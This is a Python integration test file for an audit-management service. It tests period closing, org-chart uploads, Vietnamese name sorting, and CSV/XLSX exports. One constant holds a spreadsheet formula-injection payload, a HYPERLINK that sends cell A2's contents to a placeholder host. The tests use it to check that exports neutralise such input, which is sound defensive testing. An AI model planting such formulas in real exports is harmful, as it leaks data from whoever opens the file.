"""The automatic close at the audit deadline (once, however many instances race), the admin org
chart from CSV, and the exports in CSV and XLSX. Real NATS, real PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import io
import unicodedata
from datetime import datetime, time

import pytest
from openpyxl import Workbook, load_workbook

from contracts.common import LOCAL_TZ
from contracts.periods import Month
from services.assessment.domain.policy import Policy
from services.assessment.handlers.periods import close_due_periods
from services.runtime.clock import wall
from services.runtime.db import transaction
from tests.assessment.conftest import (
    ADMIN,
    AUDITOR_KT,
    HEAD_KT,
    HR,
    STAFF_KT,
    audit_body,
    now_local,
    this_month,
    unit_at,
)
from tests.conftest import bearer

pytestmark = [pytest.mark.nats, pytest.mark.postgres]


async def test_concurrent_automatic_closes_publish_each_month_once(service) -> None:
    # A morning five months ahead: months 2 and 3 ahead are past their close day, month 4's
    # is not. The service is shared with the module's other tests, so the current month and
    # the next (today might be a month's last day) are never among those closed; the test
    # runs first, before any activity would make the close reach back to it.
    policy = Policy(auto_close_lookback_months=3)
    current = Month.of(now_local())
    later = datetime.combine(current.shift(5).first_day(), time(9), LOCAL_TZ)
    due, not_due = current.shift(3).key, current.shift(4).key

    async def one_instance() -> list[tuple[str, str]]:
        async with unit_at(service.sessions, later) as uow:
            return await close_due_periods(uow, policy)

    results = await asyncio.gather(*(one_instance() for _ in range(4)))
    closed = [pair for result in results for pair in result]
    assert len(closed) == len(set(closed)), "a month was closed twice"
    assert not {current.key, current.shift(1).key} & {period for _, period in closed}
    assert ("binh-dong", due) in closed and ("binh-dong", not_due) not in closed
    events = await service.settled_events(1, period=due)
    assert [m["event"]["type"] for m in events] == ["assessment.period.closed"]
    assert events[0]["event"]["actor"] == {"kind": "system", "id": None}
    # A later run has nothing left to do.
    assert await one_instance() == []


async def test_org_chart_from_csv(service) -> None:
    current = (await service.http.get("/v1/org", headers=ADMIN)).json()
    assert len(current["people"]) == 38
    lines = ["person_id,full_name,email,role,unit_id,unit_name_vi,unit_name_en,units_in_charge"]
    for person in current["people"]:
        unit = next((u for u in current["units"] if u["unit_id"] == person["unit_id"]), None)
        lines.append(
            ",".join(
                [
                    person["person_id"],
                    person["full_name"],
                    "",
                    person["role"],
                    person["unit_id"] or "",
                    unit["name_vi"] if unit else "",
                    unit["name_en"] if unit else "",
                    ";".join(person["units_in_charge"]),
                ]
            )
        )
    lines.append("p100,Đặng Văn Mới,,staff,kt,Phòng Kinh tế,Economy Office,")
    body = "\n".join(lines).encode("utf-8")
    csv_headers = {**ADMIN, "Content-Type": "text/csv"}
    chart = "/v1/org/chart?reason=Th%C3%AAm%20c%C3%A1n%20b%E1%BB%99%20m%E1%BB%9Bi"
    refused = await service.http.put(chart, content=b"a,b\n1,2\n", headers=csv_headers)
    assert refused.status_code == 422 and refused.json()["error"]["code"] == "csv_header"
    forbidden = await service.http.put(
        chart, content=body, headers={**HEAD_KT, "Content-Type": "text/csv"}
    )
    assert forbidden.status_code == 403
    answer = await service.http.put(chart, content=body, headers=csv_headers)
    assert answer.status_code == 200, answer.text
    assert answer.json()["people"] == 39
    events = await service.settled_events(1, version=answer.json()["org_version"])
    assert events[0]["event"]["type"] == "assessment.org.published"
    assert any(p["person_id"] == "p100" for p in events[0]["event"]["data"]["people"])


#: The issue's cases, as typed: an auditor's note and a closing note that look like formulas.
HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Xem minh chứng")'
CLOSING = "== chưa đạt =="
HEAD_VHXH = bearer("unit_head", "p017", "vhxh")
S1_1 = (
    "Bàn làm việc chỉ có tài liệu, vật dụng cần cho công việc hằng ngày; không để đồ cá nhân, "
    "giấy tờ cũ, vật dụng hỏng."
)


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_people_in_vietnamese_order_and_found_without_tone_marks(service) -> None:
    people = (await service.http.get("/v1/org", headers=ADMIN)).json()["people"]
    names = [p["full_name"] for p in people]
    # By given name: Anh, Bảo, Cường, Duyên, Dung ... ("Dung" < "Duyên": n before y).
    assert names[:5] == [
        "Vũ Thị Lan Anh",
        "Huỳnh Gia Bảo",
        "Lê Văn Cường",
        "La Thị Thùy Dung",
        "Dương Thị Mỹ Duyên",
    ]
    found = await service.http.get("/v1/org", params={"q": "tuyet"}, headers=ADMIN)
    # Mai before Tuyết: given names first.
    assert [p["full_name"] for p in found.json()["people"]] == [
        "Nguyễn Thị Tuyết Mai",
        "Kiều Thị Ánh Tuyết",
    ]
    marked = await service.http.get("/v1/org", params={"q": "THỊ ÁNH"}, headers=ADMIN)
    assert [p["full_name"] for p in marked.json()["people"]] == ["Kiều Thị Ánh Tuyết"]


async def test_org_chart_as_a_workbook_and_refusals_by_line_and_column(service) -> None:
    current = (await service.http.get("/v1/org", headers=ADMIN)).json()
    units = {u["unit_id"]: u for u in current["units"]}
    book = Workbook()
    sheet = book.active
    sheet.append(
        [
            *("person_id", "full_name", "email", "role", "unit_id"),
            *("unit_name_vi", "unit_name_en", "units_in_charge"),
        ]
    )
    for person in current["people"]:
        unit = units.get(person["unit_id"] or "")
        sheet.append(
            [
                person["person_id"],
                unicodedata.normalize("NFD", person["full_name"]),
                person.get("email") or "",
                person["role"],
                person["unit_id"] or "",
                unit["name_vi"] if unit else "",
                unit["name_en"] if unit else "",
                ";".join(person["units_in_charge"]),
            ]
        )
    stream = io.BytesIO()
    book.save(stream)
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    chart = "/v1/org/chart?reason=T%E1%BB%87p%20Excel"
    answer = await service.http.put(
        chart, content=stream.getvalue(), headers={**ADMIN, "Content-Type": xlsx}
    )
    assert answer.status_code == 200, answer.text
    assert answer.json()["people"] == len(current["people"])
    names = {
        p["full_name"] for p in (await service.http.get("/v1/org", headers=ADMIN)).json()["people"]
    }
    assert names == {p["full_name"] for p in current["people"]}  # composed again (NFC)

    semicolons = (
        "person_id;full_name;email;role;unit_id;unit_name_vi;unit_name_en;units_in_charge\r\n"
        "p100;Đặng Văn Mới;;staff;kt;Phòng Kinh tế;Economy Office;\r\n"
        "p101;Lê Thị Hai;;giám đốc;kt;Phòng Kinh tế;Economy Office;\r\n"
    ).encode("utf-16")
    for lang, text in (
        ("vi", "Dòng 3, cột role: giá trị không thuộc danh sách cho phép."),
        ("en", "Line 3, column role: the value is not one of those allowed."),
    ):
        refused = await service.http.put(
            chart,
            content=semicolons,
            headers={**ADMIN, "Content-Type": "text/csv", "Accept-Language": lang},
        )
        assert refused.status_code == 422
        assert refused.json()["error"] == {
            "code": "not_allowed",
            "message": text,
            "field": "line 3.role",
        }


async def test_exports_in_csv_and_xlsx(service) -> None:
    body = audit_body("vhxh", 1)
    body["items"][0]["note"] = HYPERLINK
    performed = datetime.fromisoformat(body["performed_at"]).astimezone(LOCAL_TZ)
    answer = await service.http.post("/v1/audits", json=body, headers=AUDITOR_KT)
    assert answer.status_code == 201
    audit = answer.json()
    first_action = audit["corrective_actions"][0]
    closed = await service.http.post(
        f"/v1/corrective-actions/{first_action}/close", json={"note": CLOSING}, headers=HEAD_VHXH
    )
    assert closed.status_code == 200, closed.text
    period = body["period"]  # the audit's month, whatever the time is now
    month = f"tháng {period[5:]}/{period[:4]}"
    exported = await service.http.get(
        "/v1/exports/audits.csv", params={"period": period}, headers=ADMIN
    )
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = csv_rows(exported.content)
    assert rows[0] == [
        "Mã phiếu",
        "Đơn vị",
        "Kỳ",
        "Thời điểm đánh giá",
        "Thành viên đoàn đánh giá",
        "Lần sửa",
        "Trạng thái",
        "Nhóm tiêu chí",
        "Mã tiêu chí",
        "Nội dung tiêu chí",
        "Trọng số",
        "Điểm (0–4, trống = không áp dụng)",
        "Ghi chú",
    ]
    assert len(rows) == 1 + 25 and {r[1] for r in rows[1:]} == {"Phòng Văn hóa - Xã hội"}
    # Names, not ids; the item's text beside its code; Vietnam time; the note as typed, made
    # safe with the apostrophe spreadsheets read as "text".
    assert rows[1] == [
        audit["audit_id"],
        "Phòng Văn hóa - Xã hội",
        month,
        performed.strftime("%d/%m/%Y %H:%M"),
        "Trương Thị Kim Oanh",
        "1",
        "Hiệu lực",
        "Sàng lọc",
        "S1.1",
        S1_1,
        "1.0",
        "1",
        "'" + HYPERLINK,
    ]
    english = await service.http.get(
        "/v1/exports/audits.csv",
        params={"period": period},
        headers={**ADMIN, "Accept-Language": "en"},
    )
    assert csv_rows(english.content)[0][:4] == ["Audit", "Unit", "Period", "Audited at"]
    assert csv_rows(english.content)[1][1:3] == ["Culture and Society Division", period_en(period)]

    book = await service.http.get(
        "/v1/exports/audits.xlsx", params={"period": period}, headers=ADMIN
    )
    sheet = load_workbook(io.BytesIO(book.content)).active
    assert sheet.title == "Phiếu đánh giá 5S"
    note, moment = sheet["M2"], sheet["D2"]
    assert note.value == HYPERLINK and note.data_type == "s"
    assert moment.is_date and moment.value == performed.replace(tzinfo=None)
    assert moment.number_format == "dd/mm/yyyy hh:mm"

    actions = await service.http.get(
        "/v1/exports/corrective-actions.xlsx", params={"period": period}, headers=ADMIN
    )
    assert actions.status_code == 200
    sheet = load_workbook(io.BytesIO(actions.content)).active
    values = list(sheet.values)
    assert sheet.title == "Biện pháp khắc phục"
    assert values[0][:3] == ("Mã biện pháp", "Đơn vị", "Kỳ")
    assert len(values) == 1 + 25 and {v[9] for v in values[1:]} == {"Đang mở", "Đã đóng"}
    done = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == first_action)
    assert [done[4].value, done[5].value, done[7].value] == ["S1.1", S1_1, "Đỗ Thị Phương Thảo"]
    assert done[11].value == CLOSING and done[11].data_type == "s"
    assert done[8].is_date and done[10].is_date
    as_csv = await service.http.get(
        "/v1/exports/corrective-actions.csv", params={"period": period}, headers=ADMIN
    )
    done_csv = next(r for r in csv_rows(as_csv.content) if r[0] == first_action)
    assert done_csv[11] == "'" + CLOSING and done_csv[9] == "Đã đóng"

    # A unit head sees only their unit; staff see no export; bad periods are refused.
    head = await service.http.get(
        "/v1/exports/audits.csv", params={"period": period}, headers=HEAD_KT
    )
    assert len(csv_rows(head.content)) == 1
    assert (
        await service.http.get(
            "/v1/exports/audits.csv", params={"period": period}, headers=STAFF_KT
        )
    ).status_code == 403
    bad = await service.http.get("/v1/exports/audits.csv", params={"period": "2026"}, headers=ADMIN)
    assert bad.status_code == 422 and bad.json()["error"]["field"] == "period"
    unknown = await service.http.get(
        "/v1/exports/audits.pdf", params={"period": period}, headers=ADMIN
    )
    assert unknown.status_code == 422


def period_en(period: str) -> str:
    return datetime.strptime(period, "%Y-%m").strftime("%B %Y")


async def test_old_idempotency_keys_are_forgotten(service) -> None:
    from datetime import timedelta

    from sqlalchemy import func, select

    from services.assessment.adapters.tables import idempotency
    from services.runtime.commands import forget_old_keys

    key = {"Idempotency-Key": "forget-me"}
    body = {"person_id": "p016", "period": this_month(), "points": 33}
    hr = {**key, **HR}
    assert (await service.http.post("/v1/task-results", json=body, headers=hr)).status_code == 201
    async with transaction(service.sessions) as session:
        kept = await forget_old_keys(session, idempotency, wall() - timedelta(days=30))
        forgotten = await forget_old_keys(session, idempotency, wall() + timedelta(seconds=1))
        left = await session.scalar(select(func.count()).select_from(idempotency))
    assert kept == 0 and forgotten >= 1 and left == 0
